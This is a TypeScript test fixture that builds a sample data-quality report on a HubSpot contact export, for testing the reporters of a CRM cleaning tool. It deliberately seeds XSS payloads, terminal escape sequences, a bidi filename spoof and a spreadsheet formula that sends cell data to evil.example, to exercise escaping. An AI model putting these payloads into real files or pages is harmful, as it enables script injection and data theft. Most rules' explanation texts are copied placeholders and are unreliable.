/** A made-up run over a hostile file, and one over an empty file, for the tests of every reporter. */

import { scoreOf, WEIGHTS } from '../../src/report/build/score.ts';
import type { Report } from '../../src/report/shape/schema.ts';

export const HOSTILE_CELLS = {
  script: '<script>alert("x")</script>',
  attribute: "\"><img src=x onerror='alert(1)'>",
  terminal: '\u001b[2J\u001b]0;owned\u0007\u009b31mred\u001b[0m',
  bidi: 'invoice\u202egnp.exe\u2066',
  table: 'a|b `c` ``d`` **bold** @everyone #12 [x](javascript:alert(1)) <b>',
  lines: 'line one\r\nline two\tand tab',
  zalgo: `Z${'\u0301\u0489'.repeat(400)}algo`,
  long: 'lorem ipsum dolor sit amet '.repeat(2000),
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  surrogate: 'half \ud83d emoji',
  comment: '--><!-- </style></svg> &lt;b&gt; &amp;',
} as const;

const afterCounts = {
  completeness: { applied: 74_904, failed: 6_120 },
  validity: { applied: 98_412, failed: 2_204 },
  consistency: { applied: 49_936, failed: 1_811 },
  uniqueness: { applied: 12_484, failed: 97 },
  timeliness: { applied: 11_902, failed: 3_908 },
  plausibility: { applied: 62_420, failed: 212 },
};
const after = scoreOf(afterCounts);
const beforeCounts = {
  completeness: { applied: 74_904, failed: 6_093 },
  validity: { applied: 98_412, failed: 19_233 },
  consistency: { applied: 49_936, failed: 21_400 },
  uniqueness: { applied: 12_484, failed: 655 },
  timeliness: { applied: 11_902, failed: 4_120 },
  plausibility: { applied: 62_420, failed: 388 },
};
const before = scoreOf(beforeCounts);

/** Checks by dimension: `parts` of the whole file, in per mille. */
const countsOf = (parts: number, failing = 1): Report['fields'][number]['counts'] =>
  Object.fromEntries(
    Object.entries(afterCounts).map(([dimension, { applied, failed }]) => {
      const share = Math.round((applied * parts) / 1000);
      return [dimension, { applied: share, failed: Math.min(share, Math.round((failed * parts * failing) / 1000)) }];
    }),
  ) as Report['fields'][number]['counts'];

const groupOf = (value: string, records: number, failing: number) => {
  const counts = countsOf((1000 * records) / 12_484, failing);
  return { value, records, counts, score: scoreOf(counts).score };
};

const groups: Report['groups'] = [
  {
    by: 'owner',
    column: 'Contact owner',
    values: [
      groupOf('Anna Virtanen', 5_120, 0.4),
      groupOf(HOSTILE_CELLS.attribute, 2_874, 3),
      groupOf('', 1_200, 6),
      groupOf('王小明', 900, 0),
    ],
    others: { values: 31, ...groupOf('', 2_390, 1) },
  },
  {
    by: 'source',
    column: 'Original Source',
    values: [groupOf('Offline Sources', 8_000, 1.4), groupOf('Organic Search', 4_484, 0.3)],
    others: null,
  },
  {
    by: 'country',
    column: 'Country/Region',
    values: [groupOf('DE', 9_000, 1), groupOf('FI', 3_000, 0.8), groupOf('CN', 484, 2)],
    others: null,
  },
  {
    by: 'created',
    column: 'Create Date',
    values: Array.from({ length: 24 }, (_, at) =>
      groupOf(
        `${2025 + Math.floor(at / 12)}-${String((at % 12) + 1).padStart(2, '0')}`,
        300 + ((at * 37) % 200),
        at % 4,
      ),
    ),
    others: null,
  },
].map((one) => (one.others ? { ...one, others: withoutValue(one.others) } : one)) as Report['groups'];

function withoutValue<T extends { readonly value: string }>({ value: _, ...rest }: T): Omit<T, 'value'> {
  return rest;
}

const inputs: Report['inputs'] = [
  {
    path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.csv',
    bytes: 3_481_220,
    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    rows: 12_000,
    firstRow: 1,
  },
  {
    path: '/srv/exports/2026-11/nachzügler 株式会社.csv.gz',
    bytes: 140_112,
    sha256: '60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752',
    rows: 484,
    firstRow: 12_001,
  },
];

const fields: Report['fields'] = [
  ['Record ID', 'id', 1, 'label "Record ID" (hubspot)', {}, 12_484, 0],
  ['First Name', 'first_name', 1, 'label "First Name" (hubspot)', {}, 12_390, 2_114],
  ['Last Name', 'last_name', 1, 'label "Last Name" (hubspot)', {}, 12_201, 2_502],
  ['Email', 'email', 1, 'label "Email" (hubspot)', {}, 11_872, 1_377],
  [
    'Phone Number',
    'phone',
    1,
    'label "Phone Number" (hubspot)',
    { phoneCountry: 'DE', phoneCountryEvidence: '91 % of rows are in DE' },
    8_040,
    6_911,
  ],
  ['Company name', 'company', 1, 'label "Company name" (hubspot)', {}, 10_004, 2_020],
  [
    'Letzter Kontakt',
    'last_activity_at',
    0.86,
    '100 % of values look like dates; label "Letzter Kontakt"',
    { dateOrder: 'dmy', dateOrderEvidence: '3,120 values have a first part above 12' },
    9_870,
    9_870,
  ],
  ['Country/Region', 'country', 0.97, 'label "Country/Region"', {}, 9_120, 3_408],
  ['Postal Code', 'postal_code', 1, 'label "Postal Code" (hubspot)', {}, 8_800, 640],
  ['Unsubscribed from all email', 'opt_out_email', 1, 'label (hubspot)', {}, 12_484, 311],
  ['会社名（カナ）', null, 0, 'no label known, values do not look like anything', {}, 310, 0],
  [HOSTILE_CELLS.attribute, null, 0, HOSTILE_CELLS.script, {}, 2, 0],
  ['notes | `raw`\u001b[31m', 'notes', 0.62, '64 % of values are sentences', {}, 4_411, 988],
].map(
  ([column, role, confidence, reason, facts, filled, changed]) =>
    ({
      column,
      role,
      confidence,
      reason,
      facts,
      filled,
      empty: 12_484 - (filled as number),
      changed,
      expected: role === 'email' || role === 'phone' || role === 'company' ? role : null,
      counts: countsOf(80),
      profile:
        role === 'country'
          ? {
              distinct: 3,
              isExact: true,
              top: [
                { value: 'DE', count: 6_000 },
                { value: 'FI', count: 3_000 },
                { value: HOSTILE_CELLS.script, count: 120 },
              ],
              shortest: 2,
              longest: 30,
              least: null,
              greatest: null,
            }
          : role === 'company'
            ? {
                distinct: 250,
                isExact: true,
                top: [
                  { value: 'marketingqualifiedlead', count: 4_530 },
                  { value: 'Paris', count: 3_517 },
                  { value: 'Kukka & Ystävät Oy', count: 1_236 },
                ],
                shortest: 5,
                longest: 22,
                least: null,
                greatest: null,
              }
            : { distinct: 9_301, isExact: false, top: [], shortest: 1, longest: 140, least: null, greatest: null },
    }) as Report['fields'][number],
);

const rules: Report['rules'] = [
  {
    code: 'email-syntax/not-an-email',
    severity: 'error',
    dimension: 'validity',
    count: 1_204,
    checked: 11_872,
    message: '{value} is not an email address',
    why: 'Mail to such an address comes back, and senders with many of these are blocked.',
    prevent: 'Write one address, as anna@firma.example.',
    find: 'crmq check contacts.csv --only email-syntax --format ndjson',
    columns: [{ column: 'Email', count: 1_204 }],
    samples: [
      { row: 18, column: 'Email', value: 'anna(at)firma.de', text: 'anna(at)firma.de is not an email address' },
      {
        row: 2_044,
        column: 'Email',
        value: HOSTILE_CELLS.script,
        text: `${HOSTILE_CELLS.script} is not an email address`,
      },
      { row: 9_001, column: 'Email', value: 'siehe Notiz', text: 'siehe Notiz is not an email address' },
    ],
  },
  {
    code: 'phone-number/lost-digits',
    severity: 'error',
    dimension: 'validity',
    count: 61,
    checked: 8_040,
    message: 'a spreadsheet turned this number into {value}: its last digits are lost',
    why: 'Mail to such an address comes back, and senders with many of these are blocked.',
    prevent: 'Write one address, as anna@firma.example.',
    find: 'crmq check contacts.csv --only email-syntax --format ndjson',
    columns: [{ column: 'Phone Number', count: 61 }],
    samples: [
      {
        row: 310,
        column: 'Phone Number',
        value: '3.58E+11',
        text: 'a spreadsheet turned this number into 3.58E+11: its last digits are lost',
      },
    ],
  },
  {
    code: 'email-typo/did-you-mean',
    severity: 'warning',
    dimension: 'plausibility',
    count: 88,
    checked: 11_872,
    message: 'did you mean {suggestion}?',
    why: 'Mail to such an address comes back, and senders with many of these are blocked.',
    prevent: 'Write one address, as anna@firma.example.',
    find: 'crmq check contacts.csv --only email-syntax --format ndjson',
    columns: [{ column: 'Email', count: 88 }],
    samples: [
      { row: 77, column: 'Email', value: 'jo@gmial.com', text: 'did you mean jo@gmail.com?' },
      { row: 5_120, column: 'Email', value: '田中@例え.テスト', text: 'did you mean 田中@例え.jp?' },
    ],
  },
  {
    code: 'staleness/stale',
    severity: 'warning',
    dimension: 'timeliness',
    count: 3_908,
    checked: 11_902,
    message: 'no activity for more than {months} months',
    why: 'Mail to such an address comes back, and senders with many of these are blocked.',
    prevent: 'Write one address, as anna@firma.example.',
    find: 'crmq check contacts.csv --only email-syntax --format ndjson',
    columns: [{ column: 'Letzter Kontakt', count: 3_908 }],
    samples: [
      { row: 4, column: 'Letzter Kontakt', value: '2021-03-01', text: 'no activity for more than 24 months' },
      { row: 5, column: 'Letzter Kontakt', value: '2019-11-30', text: 'no activity for more than 24 months' },
    ],
  },
  {
    code: 'required/empty',
    severity: 'warning',
    dimension: 'completeness',
    count: 6_120,
    checked: 74_904,
    message: '{column} is empty',
    why: 'Mail to such an address comes back, and senders with many of these are blocked.',
    prevent: 'Write one address, as anna@firma.example.',
    find: 'crmq check contacts.csv --only email-syntax --format ndjson',
    columns: [
      { column: 'Phone Number', count: 4_444 },
      { column: 'Email', count: 612 },
      { column: 'Company name', count: 500 },
      { column: HOSTILE_CELLS.attribute, count: 564 },
    ],
    samples: [{ row: 1, column: 'Phone Number', value: '', text: 'Phone Number is empty' }],
  },
  {
    code: 'formula-injection/formula',
    severity: 'warning',
    dimension: 'plausibility',
    count: 3,
    checked: 124_840,
    message: 'a spreadsheet would run {value}',
    why: 'Mail to such an address comes back, and senders with many of these are blocked.',
    prevent: 'Write one address, as anna@firma.example.',
    find: 'crmq check contacts.csv --only email-syntax --format ndjson',
    columns: [{ column: 'notes | `raw`\u001b[31m', count: 3 }],
    samples: [
      {
        row: 700,
        column: 'notes | `raw`\u001b[31m',
        value: HOSTILE_CELLS.formula,
        text: `a spreadsheet would run ${HOSTILE_CELLS.formula}`,
      },
      {
        row: 701,
        column: 'notes | `raw`\u001b[31m',
        value: HOSTILE_CELLS.terminal,
        text: `a spreadsheet would run ${HOSTILE_CELLS.terminal}`,
      },
      {
        row: 702,
        column: 'notes | `raw`\u001b[31m',
        value: HOSTILE_CELLS.table,
        text: `a spreadsheet would run ${HOSTILE_CELLS.table}`,
      },
    ],
  },
  {
    code: 'suspicious-text/bidi',
    severity: 'warning',
    dimension: 'plausibility',
    count: 2,
    checked: 124_840,
    message: '{value} holds marks that turn the reading direction round',
    why: 'Mail to such an address comes back, and senders with many of these are blocked.',
    prevent: 'Write one address, as anna@firma.example.',
    find: 'crmq check contacts.csv --only email-syntax --format ndjson',
    columns: [{ column: 'Company name', count: 2 }],
    samples: [
      { row: 88, column: 'Company name', value: HOSTILE_CELLS.bidi, text: `${HOSTILE_CELLS.bidi} holds marks` },
      { row: 89, column: 'Company name', value: HOSTILE_CELLS.surrogate, text: 'half an emoji' },
      { row: 90, column: 'Company name', value: 'شركة الاتصالات 2020 (Cairo)', text: 'right to left' },
    ],
  },
];

const changes: Report['changes'] = [
  {
    rule: 'date-iso',
    risk: 'safe',
    summary: 'Write it in the standard form.',
    why: 'One form can be compared, filtered and imported.',
    count: 9_870,
    columns: [{ column: 'Letzter Kontakt', count: 9_870 }],
    samples: [
      { row: 1, column: 'Letzter Kontakt', before: '3.4.2024', after: '2024-04-03' },
      { row: 2, column: 'Letzter Kontakt', before: '28/11/23', after: '2023-11-28' },
    ],
  },
  {
    rule: 'phone-e164',
    risk: 'safe',
    summary: 'Write it in the standard form.',
    why: 'One form can be compared, filtered and imported.',
    count: 6_911,
    columns: [{ column: 'Phone Number', count: 6_911 }],
    samples: [
      { row: 1, column: 'Phone Number', before: '(030) 12 34-567', after: '+49301234567' },
      { row: 3, column: 'Phone Number', before: '0049 30 / 998877', after: '+4930998877' },
    ],
  },
  {
    rule: 'whitespace',
    risk: 'safe',
    summary: 'Write it in the standard form.',
    why: 'One form can be compared, filtered and imported.',
    count: 4_018,
    columns: [
      { column: 'Last Name', count: 2_502 },
      { column: 'First Name', count: 1_516 },
    ],
    samples: [
      { row: 9, column: 'Last Name', before: '  Núñez\u00a0 de  Vega ', after: 'Núñez de Vega' },
      { row: 14, column: 'First Name', before: 'Ana\u200b', after: 'Ana' },
      { row: 15, column: 'Last Name', before: HOSTILE_CELLS.lines, after: 'line one line two and tab' },
    ],
  },
  {
    rule: 'mojibake',
    risk: 'safe',
    summary: 'Write it in the standard form.',
    why: 'One form can be compared, filtered and imported.',
    count: 640,
    columns: [{ column: 'Company name', count: 640 }],
    samples: [
      { row: 40, column: 'Company name', before: 'MÃ¼ller & SÃ¶hne', after: 'Müller & Söhne' },
      { row: 41, column: 'Company name', before: '株式会社ｻﾝﾌﾟﾙ', after: '株式会社サンプル' },
      { row: 42, column: 'Company name', before: HOSTILE_CELLS.zalgo, after: 'Zalgo' },
      { row: 43, column: 'Company name', before: HOSTILE_CELLS.long, after: HOSTILE_CELLS.comment },
    ],
  },
  {
    rule: 'name-case',
    risk: 'opt-in',
    summary: 'Write it in the standard form.',
    why: 'One form can be compared, filtered and imported.',
    count: 598,
    columns: [{ column: 'First Name', count: 598 }],
    samples: [
      { row: 61, column: 'First Name', before: 'JEAN-LUC', after: 'Jean-Luc' },
      { row: 62, column: 'First Name', before: '', after: 'Maria' },
    ],
  },
];

export const sample: Report = {
  schemaVersion: 2,
  tool: { name: 'crmq', version: '0.1.0' },
  asOf: '2026-11-22',
  inputs,
  crm: 'hubspot',
  kind: 'contact',
  crmReason: '9 of 13 labels are HubSpot contact export labels',
  dialect: {
    format: 'csv',
    encoding: 'windows-1252',
    bom: false,
    delimiter: ';',
    quote: '"',
    eol: '\r\n',
    headerRows: 1,
    sepLine: true,
    gzip: false,
    reason: 'sep= line; 0x80–0x9F bytes make words in windows-1252',
  },
  rows: { read: 12_484, written: 11_912, merged: 558, rejected: 14 },
  dropped: { preamble: 1, blank: 12, footer: 3, repeatedHeader: 1 },
  score: after.score,
  dimensions: after.dimensions,
  before: { score: before.score, dimensions: before.dimensions },
  scoring: {
    version: 3,
    as: 'contact',
    kinds: [{ kind: 'contact', score: after.score }],
    weights: WEIGHTS,
    counts: afterCounts,
    before: beforeCounts,
    expected: [
      { field: 'email', roles: ['email', 'email_2'], columns: ['Email'] },
      { field: 'phone', roles: ['phone', 'mobile'], columns: ['Phone Number'] },
      { field: 'activity', roles: ['last_activity_at'], columns: [] },
    ],
    absent: [{ rule: 'staleness', dimension: 'timeliness', roles: ['last_activity_at', 'updated_at'] }],
    levers: [
      { mend: 'add', field: 'activity', roles: ['last_activity_at'], dimensions: ['completeness', 'timeliness'], records: 12_470, points: 11.4 },
      { mend: 'correct', field: 'email', roles: ['email', 'email_2'], dimensions: ['validity'], records: 1204, points: 2.1, rule: 'email-syntax/no-local', find: 'crmq check contacts.csv --only email-syntax/no-local --format ndjson' },
      { mend: 'fill', field: 'phone', roles: ['phone', 'mobile'], dimensions: ['completeness', 'validity'], records: 3310, points: 1.9 },
      { mend: 'compare', field: 'phone', roles: ['country'], dimensions: ['consistency'], records: 9160, points: 1.6 },
    ], // biome-ignore format: a table
  },
  fields,
  groups,
  rules,
  changes,
  duplicates: {
    enabled: true,
    clusters: 501,
    merged: 558,
    review: 97,
    blocks: [
      { family: 'email', keys: 210, pairs: 240, skipped: 0, largest: 4 },
      { family: 'name', keys: 900, pairs: 1100, skipped: 35_000, largest: 212 },
    ],
    stats: { comparedPairs: 184_220, skippedBlocks: 2 },
    sizes: [
      { size: 2, clusters: 450 },
      { size: 3, clusters: 45 },
      { size: 4, clusters: 6 },
    ],
    samples: [
      {
        cluster: 1,
        rows: [12, 840, 12_003],
        why: 'same email; first and last name alike; phones do not conflict',
        records: [12, 840, 12_003].map((row) => ({
          row,
          cells: [
            { column: 'First Name', value: row === 840 ? HOSTILE_CELLS.attribute : 'Anna' },
            { column: 'Email', value: 'anna.virtanen@kauppahuone-virtanen.example' },
          ],
        })),
      },
      { cluster: 2, rows: [33, 5_001], why: `same phone; company ${HOSTILE_CELLS.attribute}` },
    ],
  },
  rejected: [
    {
      reason: 'unclosed-quote',
      count: 11,
      samples: [
        { row: 4_410, line: 4_433, text: `"4410";"Eva;${HOSTILE_CELLS.script}` },
        { row: 9_112, line: 9_140, text: HOSTILE_CELLS.long },
      ],
    },
    { reason: 'ragged-row', count: 3, samples: [{ row: 77, line: 79, text: '77;Max;Muster;;;;;;;;;;;;extra;cells' }] },
  ],
  staleness: {
    fresh: 5_120,
    ageing: 2_874,
    stale: 3_908,
    unknown: 582,
    ages: [
      { fromMonths: 0, toMonths: 6, records: 3_000 },
      { fromMonths: 6, toMonths: 12, records: 2_120 },
      { fromMonths: 12, toMonths: 24, records: 2_874 },
      { fromMonths: 24, toMonths: 60, records: 3_000 },
      { fromMonths: 60, toMonths: null, records: 908 },
    ],
    expectedDecay: { ratePerYear: 0.225, expectedPerYear: 1_152 },
  },
  gate: {
    passed: false,
    criteria: [
      { name: 'max-errors', limit: '2 %', actual: '10.1 %', passed: false, from: '--max-errors' },
      {
        name: 'max-errors',
        rule: 'email-syntax',
        column: 'Email',
        limit: '0',
        actual: '1204',
        passed: false,
        from: `${HOSTILE_CELLS.attribute}:3:5`,
      },
      {
        name: 'max',
        rule: 'email-syntax',
        limit: '12 %',
        actual: '10.1 % (1,204 of 11,872 checked)',
        passed: true,
        from: '--max',
      },
      { name: 'min-score', dimension: 'validity', limit: '90', actual: '97.7', passed: true, from: 'crmq.yaml:14:3' },
    ],
  },
  history: {
    runs: ['2026-08-22', '2026-09-22', '2026-10-22', '2026-11-22'].map((asOf, at) => ({
      asOf,
      id: `run-${at + 1}`,
      score: at === 3 ? after.score : 90 + at,
      dimensions: after.dimensions,
      read: 11_000 + at * 300,
      rejected: 10 + at,
      merged: 500 + at * 20,
      errors: 1_300 - at * 10,
      warnings: 9_000,
    })),
    total: 4,
    anomalies: [
      {
        metric: 'fill',
        column: HOSTILE_CELLS.attribute,
        actual: 0.02,
        expected: 0.64,
        deviation: -18.2,
        direction: 'down',
      },
    ],
    columns: { gone: ['Fax'], added: [] },
    baseline: {
      asOf: '2026-10-22',
      id: 'run-3',
      passed: true,
      score: 92,
      dimensions: after.dimensions,
      read: 11_600,
      gone: ['Fax'],
    },
  },
  cost: {
    currency: 'EUR',
    prevent: 1,
    correct: 10,
    ignore: 100,
    records: { repaired: 6_911, open: 1_265 },
    saved: 69_110,
    toCorrect: 12_650,
    ifIgnored: 126_500,
  },
  plan: { sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', pack: 'hubspot' },
  used: [
    { rule: 'date-iso', kind: 'repair', severity: 'on', summary: 'Write dates in ISO 8601.' },
    { rule: 'email-syntax', kind: 'check', severity: 'error', summary: 'An email must be one address.' },
  ],
  outputs: [
    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.clean.csv', kind: 'clean', rows: 11_428 },
    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.report.html', kind: 'report', rows: null },
    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.crmq/changes.csv', kind: 'changes', rows: 22_037 },
    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.crmq/rejected.csv', kind: 'rejected', rows: 14 },
    { path: '/srv/exports/2026-11/hubspot-crm-exports-all-contacts.crmq/review.csv', kind: 'review', rows: 97 },
  ],
  notes: [
    'fixed match weights were used: too few expected matches to train on',
    `column ${HOSTILE_CELLS.attribute} was passed through`,
    HOSTILE_CELLS.terminal,
  ],
};

const nothing = scoreOf({});
const noCounts = countsOf(0);

const { gate: _gate, history: _history, cost: _cost, ...plainRun } = sample;

/** A file with a header and no records. */
export const empty: Report = {
  ...plainRun,
  inputs: [
    {
      path: '-',
      bytes: 0,
      sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      rows: 0,
      firstRow: 1,
    },
  ],
  crm: 'unknown',
  kind: 'unknown',
  crmReason: 'no labels known',
  rows: { read: 0, written: 0, merged: 0, rejected: 0 },
  dropped: { preamble: 0, blank: 0, footer: 0, repeatedHeader: 0 },
  score: nothing.score,
  dimensions: nothing.dimensions,
  before: { score: nothing.score, dimensions: nothing.dimensions },
  scoring: {
    version: 3,
    as: 'contact',
    kinds: [{ kind: 'contact', score: after.score }],
    weights: WEIGHTS,
    counts: noCounts,
    before: noCounts,
    expected: [{ field: 'email', roles: ['email', 'email_2'], columns: [] }],
  },
  fields: [],
  groups: [],
  rules: [],
  changes: [],
  duplicates: { enabled: false, clusters: 0, merged: 0, review: 0, blocks: [], stats: {}, sizes: [], samples: [] },
  rejected: [],
  staleness: { fresh: 0, ageing: 0, stale: 0, unknown: 0, ages: [], expectedDecay: null },
  used: [],
  outputs: [],
  notes: [],
};
